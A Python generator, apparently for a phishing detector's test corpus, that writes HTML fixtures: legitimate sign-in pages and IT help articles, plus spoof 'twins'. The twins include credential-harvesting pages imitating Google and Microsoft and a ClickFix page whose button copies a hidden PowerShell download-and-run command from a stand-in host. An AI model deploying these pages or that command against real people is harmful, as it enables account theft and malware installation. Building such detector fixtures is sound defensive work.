#!/usr/bin/env python3
# -*- coding: utf-8 -*-
"""Writes tests/corpus/web11.js and its fixtures under tests/fixtures/<host>/ (eleventh round of ordinary
pages: pages that name or resemble Microsoft, GitHub, Google or Azure DevOps without imitating them,
and spoof twins that do imitate them and must still warn)."""
import os, json
HERE = os.path.dirname(os.path.abspath(__file__))
ROOT = os.path.join(HERE, '..', 'fixtures')
PAGES = []

def page(name, host, path, expect, what, source, family, body, title, css='', lang='en', provider=None, extra_files=None):
    rel = path.split('?')[0].split('#')[0].strip('/')
    files = {(rel + '/index.html') if rel else 'index.html': doc(title, body, css, lang)}
    files.update(extra_files or {})
    PAGES.append(dict(name=name, host=host, path=path, expect=expect, provider=provider, what=what,
                      source=source, family=family, files=files))

def doc(title, body, css='', lang='en'):
    return f'''<!DOCTYPE html>
<html lang="{lang}">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>{title}</title>
<style>
{BASE}
{css}
</style>
</head>
<body>
{body}
</body>
</html>
'''

BASE = '''*{box-sizing:border-box}body{margin:0;font-family:-apple-system,"Segoe UI",Roboto,"Noto Sans","Noto Sans CJK JP",Helvetica,Arial,sans-serif;color:#1f2328;background:#f6f7f9;line-height:1.5}
a{color:#0b5cad;text-decoration:none}
input[type=text],input[type=email],input[type=password],input[type=tel],input[type=search],input[type=number],select,textarea{width:100%;padding:9px 11px;border:1px solid #c4c9d0;border-radius:6px;font:inherit;background:#fff}
label{display:block;font-size:14px;font-weight:600;margin:12px 0 4px}
.btn{display:inline-block;border:0;border-radius:6px;padding:10px 18px;font:inherit;font-weight:600;cursor:pointer;background:#0b5cad;color:#fff}
.btn.sec{background:#fff;color:#1f2328;border:1px solid #c4c9d0}
.btn.wide{display:block;width:100%;text-align:center;margin-top:10px}
header.top{background:#fff;border-bottom:1px solid #e3e6ea;padding:10px 28px;display:flex;align-items:center;gap:24px}
header.top nav a{margin-right:18px;color:#333;font-size:15px}
header.top .brand{font-weight:700;font-size:19px;color:#222;display:flex;align-items:center;gap:8px}
footer.site{color:#6a737d;font-size:13px;padding:28px;text-align:center;border-top:1px solid #e3e6ea;margin-top:40px;background:#fff}
.wrap{max-width:1080px;margin:0 auto;padding:24px}
.narrow{max-width:440px;margin:40px auto}
.card{background:#fff;border:1px solid #e3e6ea;border-radius:10px;padding:24px}
.grid2{display:grid;grid-template-columns:1fr 1fr;gap:24px}.grid3{display:grid;grid-template-columns:repeat(3,1fr);gap:18px}
.muted{color:#6a737d;font-size:14px}
h1{font-size:28px;margin:8px 0 12px}h2{font-size:21px;margin:24px 0 8px}
.price{font-size:26px;font-weight:700}.tag{display:inline-block;background:#eef4ff;color:#0b5cad;border-radius:999px;padding:2px 10px;font-size:12px;font-weight:600}
.sso{display:flex;align-items:center;justify-content:center;gap:10px;width:100%;border:1px solid #c4c9d0;border-radius:6px;background:#fff;padding:9px;font:inherit;margin-top:8px;cursor:pointer;color:#1f2328}
.or{text-align:center;color:#6a737d;font-size:13px;margin:14px 0}
pre{background:#0d1117;color:#e6edf3;padding:14px 16px;border-radius:8px;overflow:auto;font-size:13px;line-height:1.45}
code{font-family:ui-monospace,SFMono-Regular,Menlo,Consolas,monospace}
figure{margin:18px 0}figure img{max-width:100%;border:1px solid #ddd;border-radius:6px}figcaption{font-size:13px;color:#6a737d}
'''

def mark(letter, color, size=28, shape='rect'):
    s = f'<rect width="{size}" height="{size}" rx="{size//5}" fill="{color}"/>' if shape == 'rect' else f'<circle cx="{size/2}" cy="{size/2}" r="{size/2}" fill="{color}"/>'
    return f'<svg xmlns="http://www.w3.org/2000/svg" width="{size}" height="{size}" viewBox="0 0 {size} {size}" aria-hidden="true">{s}<text x="{size/2}" y="{size*0.7}" font-size="{size*0.6}" font-family="Arial" font-weight="700" fill="#fff" text-anchor="middle">{letter}</text></svg>'

def top(brand, color, links=(), right=''):
    nav = ''.join(f'<a href="#">{l}</a>' for l in links)
    return f'<header class="top"><a class="brand" href="/">{mark(brand[0], color)}{brand}</a><nav>{nav}</nav><div style="margin-left:auto">{right}</div></header>'

def foot(text):
    return f'<footer class="site">{text}</footer>'

# Small product glyphs drawn by the pages themselves (grey icons, not the providers' logos)
ICON_G = '<svg width="18" height="18" viewBox="0 0 18 18" aria-hidden="true"><circle cx="9" cy="9" r="8" fill="none" stroke="#666" stroke-width="2"/><path d="M9 9h6" stroke="#666" stroke-width="2"/></svg>'
ICON_SQ = '<svg width="18" height="18" viewBox="0 0 18 18" aria-hidden="true"><rect x="1" y="1" width="16" height="16" rx="3" fill="none" stroke="#666" stroke-width="2"/></svg>'
ICON_GH = '<svg width="18" height="18" viewBox="0 0 18 18" aria-hidden="true"><circle cx="9" cy="9" r="8" fill="#333"/></svg>'

# Provider logos, used only by the twins (they imitate)
MS_LOGO = '<svg xmlns="http://www.w3.org/2000/svg" width="108" height="24" viewBox="0 0 108 24" role="img" aria-label="Microsoft"><rect x="0" y="1" width="10" height="10" fill="#f25022"/><rect x="11" y="1" width="10" height="10" fill="#7fba00"/><rect x="0" y="12" width="10" height="10" fill="#00a4ef"/><rect x="11" y="12" width="10" height="10" fill="#ffb900"/><text x="28" y="17" font-family="Segoe UI,Arial" font-size="15" fill="#5e5e5e">Microsoft</text></svg>'
G_LOGO = '<svg xmlns="http://www.w3.org/2000/svg" width="75" height="24" viewBox="0 0 75 24" role="img" aria-label="Google"><text x="0" y="19" font-family="Product Sans,Arial" font-size="22"><tspan fill="#4285f4">G</tspan><tspan fill="#ea4335">o</tspan><tspan fill="#fbbc05">o</tspan><tspan fill="#4285f4">g</tspan><tspan fill="#34a853">l</tspan><tspan fill="#ea4335">e</tspan></text></svg>'
OCTO = '<svg height="48" aria-hidden="true" viewBox="0 0 24 24" width="48" class="octicon octicon-mark-github"><path d="M12 1C5.923 1 1 5.923 1 12c0 4.867 3.149 8.979 7.521 10.436.55.096.756-.233.756-.522 0-.262-.013-1.128-.013-2.049-2.764.509-3.479-.674-3.699-1.292-.124-.317-.66-1.293-1.127-1.554-.385-.207-.936-.715-.014-.729.866-.014 1.485.797 1.691 1.128.99 1.663 2.571 1.196 3.204.907.096-.715.385-1.196.701-1.471-2.448-.275-5.005-1.224-5.005-5.432 0-1.196.426-2.186 1.128-2.956-.111-.275-.496-1.402.11-2.915 0 0 .921-.288 3.024 1.128a10.193 10.193 0 0 1 2.75-.371c.936 0 1.871.123 2.75.371 2.104-1.43 3.025-1.128 3.025-1.128.605 1.513.221 2.64.111 2.915.701.77 1.127 1.747 1.127 2.956 0 4.222-2.571 5.157-5.019 5.432.399.344.743 1.004.743 2.035 0 1.471-.014 2.654-.014 3.115 0 .289.206.632.756.522C19.851 20.979 23 16.854 23 12c0-6.077-4.922-11-11-11Z"></path></svg>'
MS_CARD_CSS = '.mscard{width:440px;margin:50px auto;background:#fff;box-shadow:0 2px 6px rgba(0,0,0,.2);padding:44px;font-family:"Segoe UI",Arial,sans-serif}.mscard h1{font-size:24px;font-weight:600;margin:16px 0 12px}.mscard input{border:0;border-bottom:1px solid #666;border-radius:0;margin-top:12px}.mscard .go{background:#0067b8;color:#fff;border:0;padding:8px 32px;margin-top:18px;float:right}'
G_CARD_CSS = '.gcard{width:450px;margin:50px auto;background:#fff;border-radius:28px;padding:40px;font-family:"Google Sans",Roboto,Arial,sans-serif}.gcard h1{font-weight:400;font-size:32px;margin:18px 0 8px}.gcard input{height:52px;margin-top:14px;border-radius:4px}.gcard .go{background:#0b57d0;color:#fff;border:0;border-radius:20px;padding:10px 24px;margin-top:18px;float:right}'

def own_login(action, user_label='Email', pass_label='Password', submit='Sign in', uid='email', pid='password', extra=''):
    return f'''<form action="{action}" method="post">
 <label for="{uid}">{user_label}</label><input type="email" id="{uid}" name="{uid}" autocomplete="username">
 <label for="{pid}">{pass_label}</label><input type="password" id="{pid}" name="{pid}" autocomplete="current-password">
 {extra}<button class="btn wide" type="submit">{submit}</button>
</form>'''

def sso_button(label, icon=ICON_SQ, href='#'):
    return f'<a class="sso" href="{href}">{icon}<span>{label}</span></a>'


import html as _html
def srcdoc(inner, w=300, h=250, sandbox='allow-scripts allow-popups', title='Advertisement'):
    return f'<iframe title="{title}" sandbox="{sandbox}" width="{w}" height="{h}" style="border:0" srcdoc="{_html.escape(inner, quote=True)}"></iframe>'

# =========================================================== 1. Own sign-in pages that copy a provider's look (own)
F = 'own'
MAT_CSS = 'body{background:#f0f4f9}.mat{width:1040px;margin:60px auto;background:#fff;border-radius:28px;padding:36px 40px;display:grid;grid-template-columns:1fr 1fr;gap:36px;font-family:"Google Sans",Roboto,Arial,sans-serif}.mat h1{font-weight:400;font-size:36px;margin:18px 0 8px}.mat input{height:54px;margin-top:14px;border-radius:4px}.mat .go{background:#0b57d0;color:#fff;border:0;border-radius:20px;padding:10px 24px;float:right;margin-top:24px}.mat .lnk{color:#0b57d0;font-weight:600;font-size:14px;display:inline-block;margin-top:8px}.mat .row{display:flex;justify-content:space-between;align-items:center;clear:both;padding-top:16px}'
b = f'''<div class="mat"><div>{mark('P', '#7c3aed', 40, 'circle')}<h1>Sign in</h1><p>Use your Pebblenote account</p></div>
<div><form action="/v3/signin/identifier" method="post"><input type="email" id="identifierId" name="identifier" autocomplete="username" placeholder="Email or phone" aria-label="Email or phone">
<a class="lnk" href="/signin/recovery">Forgot email?</a><p class="muted">Not your computer? Use a private browsing window to sign in. <a href="/help/guest">Learn more about using Guest mode</a></p>
<div class="row"><a class="lnk" href="/signup">Create account</a><button class="go" type="submit">Next</button></div></form></div></div>
<p class="muted" style="text-align:center">English (United Kingdom) &middot; Help &middot; Privacy &middot; Terms &middot; &copy; Pebblenote Ltd</p>'''
page('material-identifier-step', 'accounts.pebblenote.app', '/v3/signin/identifier?continue=https%3A%2F%2Fpebblenote.app%2Fnotes', 'danger',
     'A note-taking app\'s sign-in copying Google\'s own form: "Sign in", "Email or phone", "Forgot email?", field name identifier and Google\'s own id identifierId, "Create account" / "Next" (Google\'s form markup on another host reads as a copy of Google\'s page, as tenant-branding kits are)',
     'https://m3.material.io/components/text-fields/guidelines (Material text fields and buttons used by many sites\' own sign-in pages)', F, b, 'Sign in - Pebblenote Accounts', MAT_CSS, provider='google')
b = f'''<div class="mat"><div>{mark('P', '#7c3aed', 40, 'circle')}<h1>Welcome</h1><p style="border:1px solid #c4c7c5;border-radius:16px;padding:4px 12px;display:inline-block">maria.olsen@fjordmail.no</p></div>
<div><form action="/v3/signin/challenge/pwd" method="post"><input type="hidden" name="identifier" value="maria.olsen@fjordmail.no"><input type="password" name="Passwd" autocomplete="current-password" placeholder="Enter your password" aria-label="Enter your password">
<label style="font-weight:400"><input type="checkbox" style="width:auto;height:auto"> Show password</label>
<div class="row"><a class="lnk" href="/v3/signin/challenge/selection">Try another way</a><button class="go" type="submit">Next</button></div></form></div></div>'''
page('material-password-step', 'accounts.pebblenote.app', '/v3/signin/challenge/pwd', 'none',
     'The same app\'s password step: "Welcome", the e-mail chip, "Enter your password" in a field named Passwd, "Show password", "Try another way"',
     'https://m3.material.io/components/text-fields/guidelines', F, b, 'Pebblenote Accounts', MAT_CSS)
ADFS_CSS = 'body{background:#1b4f72 url() center/cover}.adfs{position:absolute;right:0;top:0;bottom:0;width:500px;background:#fff;padding:80px 60px;font-family:"Segoe UI",Arial,sans-serif}.adfs input{margin:6px 0;border:1px solid #999;border-radius:0}.adfs .submit{background:#0f6cbd;color:#fff;border:0;padding:8px 28px;margin-top:14px}'
b = '''<div class="adfs"><div style="font-size:26px;font-weight:300;color:#1b4f72">Harlow &amp; Price LLP</div><h2 style="font-weight:300">Sign in with your organizational account</h2>
<form method="post" action="/adfs/ls/?SAMLRequest=fZJBb9swDIX" id="loginForm"><input id="userNameInput" name="UserName" type="email" placeholder="someone@example.com" autocomplete="off">
<input id="passwordInput" name="Password" type="password" placeholder="Password" autocomplete="off"><label style="font-weight:400"><input type="checkbox" name="Kmsi" style="width:auto"> Keep me signed in</label>
<button id="submitButton" class="submit" type="submit">Sign in</button></form>
<p class="muted" style="margin-top:40px">For help, call the Service Desk on ext. 4400. Use another account? Sign out of Windows first.</p><p class="muted">&copy; 2026 Harlow &amp; Price LLP</p></div>'''
page('adfs-tenant-branded', 'sts.harlowprice.com', '/adfs/ls/?SAMLRequest=fZJBb9swDIX&RelayState=ss%3Amem', 'none',
     'A law firm\'s own AD FS sign-in, branded with its name: "Sign in with your organizational account", UserName/Password, "Keep me signed in" (the AD FS default layout)',
     'https://learn.microsoft.com/en-us/windows-server/identity/ad-fs/operations/ad-fs-user-sign-in-customization', F, b, 'Sign In', ADFS_CSS)
SHIB_CSS = '.shib{width:460px;margin:50px auto;background:#fff;border-top:6px solid #7a0019;padding:30px 36px}'
b = f'''<div class="shib">{mark('U', '#7a0019', 44)}<h2>Ravenmoor University Login</h2><p class="muted">You are signing in to <strong>Canvas</strong>. Use your University IT account (the same as for email, Microsoft 365 and Wi-Fi).</p>
<form action="/idp/profile/SAML2/Redirect/SSO?execution=e1s1" method="post"><label for="username">University username</label><input id="username" name="j_username" type="text" autocomplete="username"><label for="password">Password</label><input id="password" name="j_password" type="password" autocomplete="current-password">
<label style="font-weight:400"><input type="checkbox" name="donotcache" style="width:auto"> Don't remember login</label><button class="btn wide" name="_eventId_proceed" type="submit">Login</button></form>
<p><a href="/idp/profile/SAML2/Redirect/SSO?execution=e1s1&amp;_eventId=switch">Use another account</a> &middot; <a href="https://it.ravenmoor.ac.uk/password">Forgot your password?</a></p></div>'''
page('shibboleth-use-another-account', 'idp.ravenmoor.ac.uk', '/idp/profile/SAML2/Redirect/SSO?execution=e1s1', 'none',
     'A university\'s own Shibboleth IdP login naming Canvas and Microsoft 365 as services behind the same account, with "Use another account"',
     'https://shibboleth.atlassian.net/wiki/spaces/IDP4/pages/1265631700/LoginFlows (Shibboleth IdP login page)', F, b, 'Ravenmoor University - Login', SHIB_CSS)
b = f'''{top('Fjordbank', '#004b87', ['Private', 'Business'], '')}<div class="narrow card" style="text-align:center"><h1>Check your phone</h1>
<p>We sent a sign-in request to the Fjordbank app on your iPhone. Open the app and tap <strong>Yes, it's me</strong> to log in to Online Banking.</p>
<p style="font-size:40px;font-weight:700;letter-spacing:6px">47</p><p class="muted">Select this number in the app if it asks you to.</p>
<p class="muted">Waiting for approval&hellip; The request expires in 5 minutes.</p><p><a href="/login/otp">Try another way</a> &middot; <a href="/login">Cancel</a></p></div>'''
page('bank-check-your-phone', 'netbank.fjordbank.no', '/login/approve', 'none',
     'A bank\'s own push-approval step: "Check your phone", a number to match, "Try another way" (to a one-time code)',
     'https://www.alliancebank.com/multi-factor-for-online-banking.html ("Verify Login": Yes, it\'s me / No, it\'s not me)', F, b, 'Fjordbank – Log in', '')
b = f'''<div class="okta" style="width:420px;margin:60px auto;background:#fff;border:1px solid #ddd;border-radius:6px;padding:36px">{mark('K', '#0e7490', 40)}<p class="muted">Keyline Verify &middot; Tallis Group</p>
<h2>Check your phone</h2><p>A push notification was sent to <strong>Pixel 8</strong>. Tap <strong>Approve</strong> in Keyline Verify to sign in to Tallis Group apps (Microsoft 365, Salesforce, Workday).</p>
<p class="muted">Didn't get it? <a href="#">Send again</a></p><p><a href="/signin/verify/select">Verify with something else</a> &middot; <a href="/signin">Back to sign in</a></p></div>'''
page('idp-push-check-phone', 'tallisgroup.keyline.id', '/signin/verify/push', 'none',
     'An identity provider\'s own push page for a company tenant: "Check your phone", "Approve", names Microsoft 365 among the apps behind it',
     'https://help.okta.com/en/prod/Content/Topics/Mobile/okta-verify-sign-in.htm (Send Push: check your mobile device)', F, b, 'Tallis Group – Verify', 'body{background:#eef2f6}')
b = f'''<div class="mat" style="grid-template-columns:1fr 1fr"><div>{mark('P', '#7c3aed', 40, 'circle')}<h1>Choose an account</h1><p>to continue to <strong>Pebblenote Boards</strong></p></div>
<div><ul style="list-style:none;padding:0"><li style="padding:12px;border-bottom:1px solid #ddd">{mark('M', '#0f766e', 28, 'circle')} Maria Olsen &middot; maria.olsen@fjordmail.no</li><li style="padding:12px;border-bottom:1px solid #ddd">{mark('M', '#b45309', 28, 'circle')} Maria (work) &middot; molsen@tallisgroup.com <span class="muted">Signed out</span></li>
<li style="padding:12px;border-bottom:1px solid #ddd"><a href="/v3/signin/identifier">Use another account</a></li><li style="padding:12px"><a href="/signout">Remove an account</a></li></ul></div></div>'''
page('account-chooser-use-another', 'accounts.pebblenote.app', '/accountchooser?continue=https%3A%2F%2Fboards.pebblenote.app', 'none',
     'The app\'s own account chooser: "Choose an account", "to continue to Pebblenote Boards", "Use another account", "Remove an account"',
     'https://m3.material.io/components/lists/overview', F, b, 'Choose an account - Pebblenote', MAT_CSS)
b = f'''{top('Loomly Forum', '#be123c', ['Latest', 'Categories'], '')}<div class="narrow card"><h2 style="margin-top:0">Log in</h2>
<form action="/session" method="post"><label for="login">Username or email</label><input id="login" name="login" type="text" autocomplete="username"><label for="password">Password</label><input id="password" name="password" type="password" autocomplete="current-password">
<button class="btn wide" type="submit">Log in</button></form><p><a href="/password-reset">Forgot email?</a> &middot; <a href="/password-reset">Forgot password?</a></p><div class="or">or</div>{sso_button('Continue with Google', ICON_G)}{sso_button('Continue with GitHub', ICON_GH)}{sso_button('Continue with Microsoft', ICON_SQ)}</div>'''
page('forum-login-password-fields', 'talk.loomly-knitters.org', '/login', 'none',
     'A forum\'s own login (fields login/password, "Forgot email?") with Google, GitHub and Microsoft buttons',
     'https://meta.discourse.org/t/configuring-google-login-for-discourse/15858 (Discourse login modal with social buttons)', F, b, 'Log in - Loomly Forum', '')
b = f'''<div style="text-align:center;margin-top:40px">{mark('N', '#0369a1', 44)}<p class="muted">Northbay Health Staff Portal</p></div><div class="mscard" style="width:440px;margin:20px auto;background:#fff;box-shadow:0 2px 6px rgba(0,0,0,.2);padding:44px"><h1 style="font-size:24px">Sign in</h1>
<form action="/auth/login" method="post"><input type="email" name="loginfmt" id="i0116" placeholder="Staff email" style="border:0;border-bottom:1px solid #666;border-radius:0"><input type="password" name="passwd" id="i0118" placeholder="Password" style="border:0;border-bottom:1px solid #666;border-radius:0;margin-top:12px">
<p><a href="/auth/reset">Can't access your account?</a></p><button class="btn" type="submit" style="float:right">Sign in</button></form><div style="clear:both"></div></div><p class="muted" style="text-align:center">Northbay Health NHS Trust &middot; IT Service Desk 0300 555 0143</p>'''
page('hospital-portal-loginfmt', 'staff.northbayhealth.nhs.uk', '/auth/login', 'danger',
     'A hospital staff portal whose form reuses Microsoft\'s own field names loginfmt/passwd and ids i0116/i0118 under its own logo, no Microsoft name or logo (Microsoft\'s form markup on another host reads as a copy of Microsoft\'s page, as tenant-branding kits are)',
     'https://learn.microsoft.com/en-us/entra/fundamentals/how-to-customize-branding (company-branded sign-in boxes that other portals copy)', F, b, 'Sign in - Northbay Health Staff Portal', 'body{background:#f2f2f2;font-family:"Segoe UI",Arial,sans-serif}', provider='microsoft')
# twin
b = f'''<div class="mat"><div>{G_LOGO}<h1>Sign in</h1><p>to continue to Gmail</p></div>
<div><form action="/v3/signin/identifier" method="post"><input type="email" id="identifierId" name="identifier" autocomplete="username" placeholder="Email or phone"><input type="password" name="Passwd" placeholder="Enter your password">
<a class="lnk" href="#">Forgot email?</a><div class="row"><a class="lnk" href="#">Create account</a><button class="go" type="submit">Next</button></div></form></div></div>'''
page('twin-material-google-signin', 'accounts-pebblenote-login.app', '/v3/signin/identifier', 'danger',
     'Twin of material-identifier-step: the same Material form with the Google logo, "to continue to Gmail", and a Passwd field, on a look-alike host',
     'https://www.microsoft.com/en-us/security/blog/2022/07/12/from-cookie-theft-to-bec-attackers-use-aitm-phishing-sites-as-entry-point-to-further-financial-fraud/ (provider sign-in copied on an attacker host)', F, b, 'Gmail', MAT_CSS, provider='google')

# =========================================================== 2. IT help desks: an app failed, paste a command (help)
F = 'help'
KB_CSS = '.kb{max-width:760px;margin:30px auto;background:#fff;border:1px solid #e3e6ea;border-radius:8px;padding:28px 36px}.kb .cp{float:right;font-size:12px;padding:3px 10px;background:#334155}.crumb{font-size:13px;color:#6a737d}'
def cmd(text, copy=True):
    esc = _html.escape(text)
    js = json.dumps(text).replace('"', '&quot;')
    btn = f'<button class="btn cp" type="button" onclick="navigator.clipboard.writeText({js})">Copy</button>' if copy else ''
    return f'<div>{btn}<pre><code>{esc}</code></pre></div>'
def kb(brand, color, crumb, title, body_html, lang='en', footer='Last updated 14 November 2026'):
    return top(brand, color, [], '<a href="/portal">Service portal</a>') + f'<article class="kb"><p class="crumb">{crumb}</p><h1>{title}</h1>{body_html}<p class="muted">{footer}</p></article>'
b = kb('Ravenmoor IT', '#7a0019', 'Knowledge base › Microsoft Teams', 'Teams could not start your camera',
  '<p>If Teams shows <em>"We couldn\'t start your video"</em> or <em>"Teams could not start your camera"</em>, close Teams and reset the app. You will need to sign in to Teams again with your university account afterwards.</p>'
  '<ol><li>Right-click <strong>Start</strong> and choose <strong>Terminal</strong> (or press Win+X, then I).</li><li>Paste this command and press Enter:</li></ol>'
  + cmd('Get-AppxPackage MSTeams | Reset-AppxPackage') +
  '<ol start="3"><li>Open Teams from the Start menu and try a test call.</li></ol><p>Still broken? Check <strong>Settings › Privacy &amp; security › Camera</strong>, or log a ticket with the IT Service Desk.</p>')
page('kb-teams-camera-reset', 'it.ravenmoor.ac.uk', '/kb/teams-camera-could-not-start', 'none',
     'A university IT knowledge-base article: "Teams could not start your camera", open Terminal (Win+X), paste Get-AppxPackage MSTeams | Reset-AppxPackage, with a Copy button',
     'https://learn.microsoft.com/en-us/microsoftteams/troubleshoot/teams-administration/clear-teams-cache (reset Teams; help-desk articles repeat it)', F, b, 'Teams could not start your camera | Ravenmoor IT', KB_CSS)
b = kb('Bittern IT Support', '#0f766e', 'Help › Email', 'Outlook cannot connect to the server',
  '<p>When Outlook says <em>"Trying to connect…"</em> or <em>"Disconnected"</em>, first check <a href="#">our status page</a>. Then start Outlook without add-ins:</p>'
  '<ol><li>Close Outlook.</li><li>Press <kbd>Win</kbd>+<kbd>R</kbd> to open Run.</li><li>Type or paste the command below and press Enter.</li></ol>' + cmd('outlook.exe /safe') +
  '<p>If Outlook connects in safe mode, a faulty add-in is the cause: go to File › Options › Add-ins and turn them off one by one. To test the network, paste this in PowerShell:</p>' + cmd('Test-NetConnection outlook.office365.com -Port 443'))
page('kb-outlook-cannot-connect', 'support.bittern-it.co.uk', '/help/outlook-cannot-connect', 'none',
     'A managed-service provider\'s help page: "Outlook cannot connect to the server", Win+R, paste outlook.exe /safe; a PowerShell Test-NetConnection line; Copy buttons',
     'https://www.bittechit.co.uk/blog/outlook-not-connecting-to-email-how-to-fix-it-for-microsoft-365-and-exchange/', F, b, 'Outlook cannot connect to the server – Bittern IT Support', KB_CSS)
b = kb('MuteGuide', '#9333ea', 'Guides › Google Meet', 'Google Meet microphone not working on a Mac',
  '<p>If Google Meet says your microphone is blocked or nobody can hear you, check the input device in Meet\'s <strong>Settings › Audio</strong> and the browser\'s site permission first.</p>'
  '<p>If the level meter still does not move, restart macOS\'s audio service. Press <kbd>Cmd</kbd>+<kbd>Space</kbd>, type <strong>Terminal</strong>, then paste:</p>' + cmd('sudo killall coreaudiod') +
  '<p>Enter your Mac\'s password when asked (nothing appears as you type), then rejoin the meeting.</p>')
page('guide-meet-mic-mac', 'www.muteguide.io', '/guides/google-meet-microphone-not-working-mac', 'none',
     'A vendor guide: "Google Meet microphone not working", Cmd+Space, Terminal, paste sudo killall coreaudiod, "enter your Mac\'s password"',
     'https://blog.kavodlending.com/fixing-macbook-microphone-issues-troubleshooting-tips/ ; https://www.mutedeck.com/blog/2026-05-18-google-meet-microphone-not-working/', F, b, 'Google Meet microphone not working on a Mac | MuteGuide', KB_CSS)
b = kb('Soundline Headsets', '#1d4ed8', 'Support › Troubleshooting', 'Teams does not detect my Soundline headset',
  '<p>After a Windows update, Microsoft Teams may not list the headset. Restart the Windows audio services from an administrator PowerShell window (right-click Start › Terminal (Admin)) and paste:</p>'
  + cmd('Restart-Service -Name Audiosrv, AudioEndpointBuilder -Force') + '<p>Then in Teams open Settings › Devices and choose <strong>Soundline Pro 2</strong>.</p>')
page('vendor-headset-teams', 'support.soundline-audio.com', '/troubleshooting/teams-headset-not-detected', 'none',
     'A headset maker\'s short support page: Teams does not detect the headset, Terminal (Admin), paste Restart-Service Audiosrv',
     'https://www.poly.com/us/en/support/knowledge-base (headset vendors\' Teams troubleshooting articles)', F, b, 'Teams does not detect my headset | Soundline Support', KB_CSS)
b = kb('Lindqvist IT', '#334155', 'KB › OneDrive', 'OneDrive is not syncing',
  '<p>Reset OneDrive: press <kbd>Win</kbd>+<kbd>R</kbd>, paste the line below and press OK. OneDrive restarts and resyncs; your files are not deleted.</p>'
  + cmd(r'%localappdata%\Microsoft\OneDrive\onedrive.exe /reset'))
page('kb-onedrive-reset-short', 'help.lindqvist-it.se', '/kb/onedrive-sync', 'none',
     'A very short IT help page: "OneDrive is not syncing", Win+R, paste onedrive.exe /reset',
     'https://support.microsoft.com/en-us/office/reset-onedrive-34701e00-bf7b-42db-b960-84905399050c', F, b, 'OneDrive is not syncing', KB_CSS)
b = kb('Gitwell Docs', '#18181b', 'Troubleshooting', 'GitHub Desktop: "Authentication failed"',
  '<p>If pushing fails with <em>Authentication failed</em> after you changed your GitHub password or turned on two-factor authentication, remove the stored credential and sign in again. Open Terminal and paste:</p>'
  + cmd('printf "protocol=https\\nhost=github.com\\n" | git credential-manager erase') + '<p>Then choose File › Options › Accounts › Sign in, which opens github.com in your browser.</p>')
page('kb-github-desktop-auth', 'docs.gitwell.dev', '/troubleshooting/authentication-failed', 'none',
     'A Git tool\'s troubleshooting page: GitHub "Authentication failed", open Terminal and paste a git credential-manager erase line',
     'https://docs.github.com/en/desktop/installing-and-authenticating-to-github-desktop/authenticating-to-github-in-github-desktop', F, b, 'Authentication failed | Gitwell Docs', KB_CSS)
b = kb('IT-Hilfe Stadtwerke Lindau', '#b91c1c', 'Anleitungen › Outlook', 'Outlook startet nicht – „Outlook kann nicht gestartet werden“',
  '<p>Wenn Outlook beim Start hängen bleibt, setzen Sie den Navigationsbereich zurück. Drücken Sie <kbd>Win</kbd>+<kbd>R</kbd>, fügen Sie den Befehl ein und klicken Sie auf OK:</p>'
  + cmd('outlook.exe /resetnavpane') + '<p>Hilft das nicht, rufen Sie die IT-Hotline (Durchwahl 3300) an.</p>', 'de', 'Stand: 12.11.2026')
page('kb-outlook-start-de', 'it.stadtwerke-lindau.de', '/anleitungen/outlook-startet-nicht', 'none',
     'A German municipal utility\'s IT help page: Outlook will not start, Win+R, paste outlook.exe /resetnavpane',
     'https://support.microsoft.com/de-de/office/befehlszeilenoptionen-f%C3%BCr-microsoft-office-produkte-079164cd-4ef5-4178-b235-441737deb3a6', F, b, 'Outlook startet nicht | IT-Hilfe', KB_CSS, 'de')
b = kb('Campus Tech Desk', '#15803d', 'Mac › Google Drive', 'Google Drive for desktop won\'t open',
  '<p>Quit Drive from the menu bar. If it is stuck, open <strong>Terminal</strong> (Applications › Utilities) and paste:</p>' + cmd('killall "Google Drive"; open -a "Google Drive"') +
  '<p>Then sign in with your @students.brookfield.edu Google account when Drive asks.</p>')
page('kb-drive-mac-terminal', 'techdesk.brookfield.edu', '/mac/google-drive-wont-open', 'none',
     'A college tech-desk page: Google Drive for desktop won\'t open, paste killall in Terminal, then sign in with the school Google account',
     'https://support.google.com/drive/answer/10838124 (Drive for desktop troubleshooting)', F, b, 'Google Drive for desktop won\'t open | Campus Tech Desk', KB_CSS)
# twins
b = kb('Bittern IT Support', '#0f766e', 'Help › Email', 'Outlook cannot connect to the server',
  '<p>To repair Outlook, confirm your Microsoft 365 account below. The repair tool reconnects your mailbox automatically.</p>'
  f'<div style="border:1px solid #ccc;padding:24px;max-width:420px">{MS_LOGO}<h2 style="font-weight:600">Sign in</h2><form action="/repair/auth" method="post"><input type="email" name="loginfmt" placeholder="Email, phone, or Skype"><input type="password" name="passwd" placeholder="Password" style="margin-top:10px"><button class="btn" style="background:#0067b8;margin-top:12px" type="submit">Sign in</button></form></div>')
page('twin-kb-outlook-signin', 'bittern-it-outlook-repair.com', '/help/outlook-cannot-connect', 'danger',
     'Twin of kb-outlook-cannot-connect: the help page asks for the Microsoft 365 password in a Microsoft-styled box (logo, loginfmt/passwd) "to repair Outlook", on a look-alike host',
     'https://www.microsoft.com/en-us/security/blog/2023/06/08/detecting-and-mitigating-a-multi-stage-aitm-phishing-and-bec-campaign/', F, b, 'Outlook – Sign in', KB_CSS, provider='microsoft')
CF_CSS = 'body{background:#f5f5f5;font-family:"Segoe UI",Arial,sans-serif}.cf{width:520px;margin:80px auto;background:#fff;border-radius:8px;box-shadow:0 2px 10px rgba(0,0,0,.15);padding:32px}'
b = f'''<div class="cf"><div style="display:flex;gap:10px;align-items:center">{mark('T', '#5b5fc7', 36)}<strong>Microsoft Teams</strong></div><h2>Teams could not start your camera</h2><p>Your camera driver is blocked. Click <strong>Fix it</strong>, then:</p>
<ol><li>Press <kbd>Win</kbd>+<kbd>R</kbd></li><li>Press <kbd>Ctrl</kbd>+<kbd>V</kbd></li><li>Press <kbd>Enter</kbd></li></ol>
<button class="btn" style="background:#5b5fc7" onclick="navigator.clipboard.writeText('powershell -w hidden -c &quot;iwr https://teams-cam-fix.net/d.ps1 | iex&quot;')">Fix it</button><p class="muted">Microsoft &copy; 2026</p></div>'''
page('twin-teams-camera-clickfix', 'teams-meet-join.net', '/l/meetup-join/19-meeting-nzk/', 'danger',
     'Twin of kb-teams-camera-reset turned into ClickFix: a Microsoft Teams card "Teams could not start your camera", Fix it copies a hidden PowerShell download-and-run, Win+R / Ctrl+V / Enter, on a meeting look-alike host',
